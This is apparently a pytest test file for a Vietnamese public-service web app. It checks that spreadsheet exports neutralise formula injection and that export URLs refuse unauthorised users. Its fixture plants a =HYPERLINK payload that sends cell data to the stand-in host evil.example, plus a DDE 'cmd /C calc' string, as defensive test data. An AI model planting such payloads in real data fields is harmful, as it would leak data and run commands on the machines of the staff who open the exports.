"""Every CSV/XLSX export: no cell a spreadsheet would run as a formula, and the four callers of each URL.

A `=HYPERLINK(...)` payload is planted where citizens and officers type text that exports carry (a rating
comment, the applicant's name, a unit's name, a procedure's name, a dossier event's note); each export
is then parsed back and no text cell may start with `= + - @`, tab or CR (issue 11 item 5).
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from motcua.core import exports
from motcua.org.models import Role

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# url -> who may download it: (role, unit fixture name)
EXPORTS = {
    "/staff/catalog/tai-cau-truc/?format=csv": (Role.AUDITOR, "province"),
    "/staff/catalog/tai-cau-truc/?format=xlsx": (Role.AUDITOR, "province"),
    "/staff/catalog/excel/?download=1": (Role.UNIT_LEADER, "ward_a"),
    "/staff/surveys/export.csv": (Role.UNIT_LEADER, "ward_a"),
    "/staff/surveys/export.xlsx": (Role.UNIT_LEADER, "ward_a"),
    "/staff/dossiers/{code}/mau-06.xlsx": (Role.UNIT_LEADER, "ward_a"),
    "/staff/dossiers/log-book/?format=xlsx": (Role.UNIT_LEADER, "ward_a"),
}


@pytest.fixture
def planted(make_dossier, province, ward_a):
    """A returned dossier of ward A whose texts all carry the payload, rated with a payload comment."""
    from motcua.catalog.models import Procedure
    from motcua.dossiers.models import Dossier, DossierEvent
    from motcua.dossiers.receipts import receipt_key
    from motcua.org.models import Unit
    from motcua.surveys import services

    d = make_dossier()
    services.submit_rating(
        dossier_code=d.code,
        answers={"service": 5, "time": 5, "attitude": 5},
        comment=PAYLOAD,
        channel="qr",
        receipt_key=receipt_key(d.code),
    )
    Dossier.objects.filter(pk=d.pk).update(applicant_name=PAYLOAD)
    DossierEvent.objects.filter(dossier=d).update(note="@SUM(1+1)*cmd|' /C calc'!A0")
    Procedure.objects.filter(pk=d.procedure_id).update(name="+" + PAYLOAD)
    Unit.objects.filter(pk=province.pk).update(name="-" + PAYLOAD)
    return d


def _cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


def _url(template: str, dossier) -> str:
    return template.format(code=dossier.code)


@pytest.mark.parametrize("template", sorted(EXPORTS))
def test_no_exported_cell_starts_a_formula(client, planted, make_staff, request, template):
    role, unit_name = EXPORTS[template]
    client.force_login(make_staff(role, request.getfixturevalue(unit_name)))
    response = client.get(_url(template, planted))
    assert response.status_code == 200, response.content[:300]
    assert "attachment" in response["Content-Disposition"]
    text_cells = [c for c in _cells(response) if isinstance(c, str)]
    assert [c for c in text_cells if c.startswith(FORMULA_STARTS)] == []
    assert any("HYPERLINK" in c or "SUM(1+1)" in c for c in text_cells), "the payload reached the export"
    assert all(c.startswith("'") for c in text_cells if "HYPERLINK" in c or "SUM(1+1)" in c)


@pytest.mark.parametrize("template", sorted(EXPORTS))
def test_export_four_callers(client, planted, make_staff, citizen, ward_b, request, template):
    from motcua.surveys.models import Rating

    url = _url(template, planted)
    before = Rating.objects.count()
    # anonymous
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith("/staff/login/")
    # citizen (the applicant herself: exports are staff tools)
    client.force_login(citizen)
    assert client.get(url).status_code == 403
    # the same role in another unit: refused, or an export without the other unit's rows
    role, unit_name = EXPORTS[template]
    client.force_login(make_staff(role if role != Role.AUDITOR else Role.UNIT_LEADER, ward_b))
    other = client.get(url)
    if other.status_code == 200 and "catalog/excel" not in template:
        assert planted.code not in " ".join(str(c) for c in _cells(other))
    elif "catalog/excel" not in template:
        assert other.status_code in (403, 404)
    # the allowed role of the unit
    client.force_login(make_staff(role, request.getfixturevalue(unit_name)))
    allowed = client.get(url)
    assert allowed.status_code == 200
    if "surveys" in template or "log-book" in template:
        assert planted.code in " ".join(str(c) for c in _cells(allowed))
    assert Rating.objects.count() == before


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+84901234567", "'+84901234567"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (5, 5),
        (-5, -5),
        (None, None),
        ("a\x00b", "ab"),
    ],
)
def test_safe_cell(value, expected):
    assert exports.safe_cell(value) == expected
    if isinstance(value, str) and "\x00" not in value:
        assert exports.unneutralise(exports.safe_cell(value)) == value


def test_catalog_workbook_round_trips_neutralised_text(planted):
    from motcua.catalog.excel import export_workbook
    from motcua.catalog.models import Procedure

    book = load_workbook(io.BytesIO(export_workbook(Procedure.objects.filter(pk=planted.procedure_id))))
    names = [
        row[2] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)
    ]  # code, suffix, name
    assert names == ["'+" + PAYLOAD]
    assert exports.unneutralise(names[0]) == "+" + PAYLOAD
